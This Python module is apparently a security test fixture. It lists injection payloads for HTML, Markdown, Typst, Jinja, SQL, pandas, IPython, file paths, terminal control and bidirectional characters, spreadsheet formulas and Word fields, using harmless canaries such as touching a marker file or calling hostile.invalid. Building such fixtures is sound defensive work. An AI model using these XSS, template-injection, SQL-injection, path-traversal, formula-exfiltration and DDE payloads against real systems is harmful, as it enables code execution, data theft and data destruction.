"""Hostile texts, by what would have to read them to be taken in.

A text that runs leaves a trace: in a page the variable `ran`, on the machine a file named `RAN`; one that
fetches asks for `REMOTE`; one that reads shows `SECRET`, which stands in a file outside the workspace.
"""

from __future__ import annotations

RAN = "HOSTILE-RAN"
REMOTE = "hostile.invalid"
SECRET = "HOSTILE-SECRET-7Q"
SECRET_FILE = "hostile-secret.txt"

_JS = "ran=1"
_PY = f"__import__('os').system('touch {RAN}')"

HTML = (
    f"<script>{_JS}</script>",
    f"</script><script>{_JS}</script>",
    f"</style><script>{_JS}</script>",
    f"</title></textarea><svg onload={_JS}>",
    f'"><img src=x onerror={_JS}>',
    f"' onmouseover={_JS} autofocus onfocus={_JS} x='",
    f"<img src=http://{REMOTE}/a.png>",
    f"<svg><script>{_JS}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_JS}>",
    f"<iframe srcdoc='<script>parent.{_JS}</script>'></iframe>",
    f"<link rel=stylesheet href=http://{REMOTE}/a.css>",
    f"<meta http-equiv=refresh content='0;url=http://{REMOTE}/'>",
    f"<base href=http://{REMOTE}/>",
    f"<form action=http://{REMOTE}/><button autofocus>x",
    f"<a href=javascript:{_JS}>x</a>",
    f"<details open ontoggle={_JS}>x</details>",
    f"<style>@import 'http://{REMOTE}/a.css';</style>",
    "<!-- <!--> -->",
    "<![CDATA[ ]]> <?php ?> <%= 1 %>",
    f"&lt;script&gt;{_JS}&lt;/script&gt; &#60;script&#62;",
    f"＜script＞{_JS}＜/script＞",
    "<data value='999' data-figure='petitions.closed'>999</data>",
)
MARKDOWN = (
    f"[x](javascript:{_JS})",
    f"[x](JaVaScRiPt&colon;{_JS})",
    f"[x](data:text/html,<script>{_JS}</script>)",
    f"[x](vbscript:{_JS})",
    f"[x](file:///etc/passwd) [y](//{REMOTE}/)",
    f"![x](http://{REMOTE}/a.png)",
    f"![x](data:image/svg+xml,<svg onload={_JS}>)",
    f'![x" onerror="{_JS}](x)',
    f'[x](http://example.com/"onmouseover="{_JS})',
    f"<http://{REMOTE}/> <javascript:{_JS}>",
    f"[x]: http://{REMOTE}/ 'y'",
    "| a | b |\n|---|---|\n| `x` | **y** |",
    "```{=html}\n<b>x</b>\n```",
    "# x\n---\n* * *\n> y\n1. z",
    "$x$ \\[y\\] \\input{/etc/passwd} \\write18{id}",
    "{{< include /etc/passwd >}}",
)
TYPST = (
    '#read("/etc/passwd")',
    f'#read("../../../{SECRET_FILE}")',
    '#include "/etc/passwd"',
    '#import "@preview/cetz:0.3.0": *',
    '#eval("1+1", mode: "code")',
    '#image("/etc/passwd") #json("page.json") #plugin("x.wasm")',
    "#let x = 1; #x #panic() #while true { }",
    "= x $ x^2 $ `raw` @label <label> // comment /* x */",
    "\\u{41} #sys.inputs ~ -- --- *x* _y_",
    ']) #read("page.json") #box([',
)
JINJA = (
    "{{ 7 * 7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    f"{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x.__init__.__globals__['os'].system('touch {RAN}') }}}}{{% endfor %}}",
    "{% include '/etc/passwd' %}{# x #}",
    "${7*7} #{7*7} <%= 7*7 %> {{=7*7}} @(7*7)",
    "{0.__class__} {office.__init__.__globals__} %(x)s %s %n {}",
    "{{petitions.closed}} {{?petitions.closed}} {{:}} {{/}} {{no.such}}",
)
SQL = (
    "'; DROP TABLE petitions; --",
    "' OR 1=1 --",
    f"' || (SELECT content FROM read_text('../{SECRET_FILE}')) || '",
    "\"; COPY (SELECT 1) TO 'HOSTILE-RAN'; --",
    "x') UNION SELECT getenv('HOME') --",
    "$$; INSTALL httpfs; LOAD httpfs; $$",
    "E'\\x27' U&\"d\\0061t\\+000061\"",
)
PANDAS = (
    f"@pd.io.common.os.system('touch {RAN}')",
    f"@__import__('os').system('touch {RAN}')",
    f"`x` == {_PY}",
    "col(\"x\").notNull() and __import__('os')",
    '{"$PARAMETER": "9**9**9"}',
)
IPYTHON = (
    f"!touch {RAN}",
    f"%%bash\ntouch {RAN}",
    f"%system touch {RAN}",
    f"{{{_PY}}}",
    f"{{get_ipython().system('touch {RAN}')}}",
    f"$({'touch ' + RAN})",
    f"`touch {RAN}`",
    f'"; {_PY} #',
    f"'\n{_PY}\n'",
    f'"""\n{_PY}\n"""',
    f"; touch {RAN} ; | touch {RAN} & touch {RAN}",
    "?open ??open %load /etc/passwd %run x.py",
    f"# Parameters\n{_PY}",
)
PATHS = (
    "../../../etc/passwd",
    f"..\\..\\{SECRET_FILE}",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "\\\\hostile.invalid\\share\\x",
    "file:///etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "CON",
    "nul.txt",
    "x.",
    "~root",
    "-rf",
    "....//....//etc",
)
CONTROL = (
    "x\x1b[31mred\x1b[0m",
    "x\x1b]0;title\x07",
    "x\x1b]8;;http://hostile.invalid/\x1b\\y\x1b]8;;\x1b\\",
    "x\x9b31my",
    "x\x08\x08\x08y",
    "x\ry",
    "x\x00y",
    "x\x0by\x0cz",
    "x\x7fy\x85z",
    "x\ufffey\uffffz",
    "x\u2028y\u2029z",
)
BIDI = (
    "x\u202etxt.exe\u202c",
    "\u2066\u2067x\u2069\u2069",
    "x\u200f\u200e\u061cy",
    "x\u200b\u200c\u200d\ufeffy",
    "x\u00ady\u2060z",
    "\U000e0041\U000e0042x",
    "x\ufe0fy",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("http://{REMOTE}/?x="&A1,"y")',
    f'=WEBSERVICE("http://{REMOTE}/")',
    f'=IMPORTXML("http://{REMOTE}/","//a")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "'=1+1",
    '";=1+1',
    '",=1+1',
    "{=1+1}",
    "\u200b=1+1",
)
WORD = (
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
    'INCLUDETEXT "/etc/passwd"',
    f'INCLUDEPICTURE "http://{REMOTE}/a.png"',
    "{ DDE cmd } { =1+1 } { HYPERLINK \"http://hostile.invalid/\" }",
    '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>',
    "]]><w:instrText>DDE</w:instrText>",
    "_x0041__x000D_",
)

PAYLOADS: dict[str, tuple[str, ...]] = {
    "html": HTML, "markdown": MARKDOWN, "typst": TYPST, "jinja": JINJA, "sql": SQL, "pandas": PANDAS, "ipython": IPYTHON, "path": PATHS,
    "control": CONTROL, "bidi": BIDI, "formula": FORMULAS, "word": WORD,
}  # fmt: skip
ALL = tuple(text for texts in PAYLOADS.values() for text in texts)
